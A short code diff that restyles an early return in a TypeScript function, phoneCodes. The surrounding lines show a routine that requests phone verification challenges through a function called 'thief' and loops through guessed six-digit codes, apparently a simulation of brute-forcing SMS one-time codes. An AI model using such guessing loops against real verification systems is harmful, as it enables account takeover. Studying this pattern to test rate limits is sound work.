@@ -63,7 +63,10 @@ export async function phoneCodes({ numbers, addresses, perDay }: Plan): Promise<
   }
   const askAndGuess = async (phone: string, address: string, guesses: number) => {
     const asked = await thief({ phone }, { address })
-    if (asked.challenge === null) return void (refused += 1)
+    if (asked.challenge === null) {
+      refused += 1
+      return
+    }
     sent += 1
     for (let guess = 0; guess < guesses; guess += 1) {
       const code = String(guess * 7919).padStart(6, "0")
